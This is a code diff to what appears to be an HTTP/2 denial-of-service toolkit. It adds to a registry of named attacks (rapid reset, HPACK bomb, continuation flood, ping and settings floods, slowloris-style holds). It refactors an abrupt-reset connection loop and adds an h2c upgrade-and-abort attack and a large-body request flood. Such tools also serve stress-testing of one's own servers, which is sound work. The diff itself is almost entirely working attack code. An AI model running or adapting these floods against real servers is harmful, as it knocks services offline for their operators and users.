@@ -74,6 +74,17 @@ class Attacker:
             if read:
                 swallow(connection)
 
+    def abort(self, first, alpn="h2"):
+        """Connection after connection, each broken as soon as that is said."""
+        while self.on():
+            connection = self.dial(alpn)
+            try:
+                connection.sendall(first)
+                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+            except OSError:
+                self.ended += 1
+            connection.close()
+
     def hold(self, count, first, more=None, alpn="h2", receive_bytes=None):
         """Keeps that many connections open, and sends more() on each every second. Those that are ended are not
         replaced before all are."""
@@ -171,14 +182,13 @@ def reset_abort(attacker):
     library."""
     other = h2.fields("GET", "/nothing")
     mixed = b"".join(h2.beacon(s) if s % 4 == 1 else h2.request(s, other) for s in streams(0))
-    while attacker.on():
-        connection = attacker.dial()
-        try:
-            connection.sendall(h2.hello() + mixed)
-            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
-        except OSError:
-            attacker.ended += 1
-        connection.close()
+    attacker.abort(h2.hello() + mixed)
+
+
+def upgrade_abort(attacker):
+    """A beacon that asks for HTTP/2 in clear, and a connection that breaks at once."""
+    attacker.abort((f"POST /balise/b HTTP/1.1\r\nHost: x\r\nOrigin: {h2.ORIGIN}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
+                    f"HTTP2-Settings: AAMAAABkAAQAAP__\r\nContent-Length: {len(h2.BEACON)}\r\n\r\n").encode() + h2.BEACON, "http/1.1")
 
 
 def zero_window(attacker):
@@ -248,6 +258,13 @@ def oversized(attacker):
                    + h2.frame(h2.DATA, 2 * n + 1, body) * 8, h2.hello())
 
 
+def whole_bodies(attacker):
+    """Whole requests with bodies of 48 KB, as fast as they go."""
+    body = b" " * 16000
+    attacker.flood(lambda n: h2.frame(h2.HEADERS, 2 * n + 1, h2.BEACON_FIELDS, h2.END_HEADERS) + h2.frame(h2.DATA, 2 * n + 1, body) * 2
+                   + h2.frame(h2.DATA, 2 * n + 1, body, h2.END_STREAM), h2.hello())
+
+
 def continuation_flood(attacker):
     """A header block without an end."""
     start = h2.frame(h2.HEADERS, 1, h2.BEACON_FIELDS)
@@ -291,9 +308,9 @@ def garbage(attacker):
 
 
 ATTACKS = {function.__name__: function for function in (
-    rapid_reset, rapid_reset_unknown, made_you_reset, hpack_bomb, reset_abort, zero_window, no_reading, slow_headers, slow_body,
-    slow_streams, big_bodies, few_bodies, oversized, continuation_flood, empty_continuations, ping_flood, settings_flood, priority_flood,
-    unknown_frames, crowd, garbage)}
+    rapid_reset, rapid_reset_unknown, made_you_reset, hpack_bomb, reset_abort, upgrade_abort, zero_window, no_reading, slow_headers, slow_body,
+    slow_streams, big_bodies, few_bodies, whole_bodies, oversized, continuation_flood, empty_continuations, ping_flood, settings_flood,
+    priority_flood, unknown_frames, crowd, garbage)}
 
 
 def main():
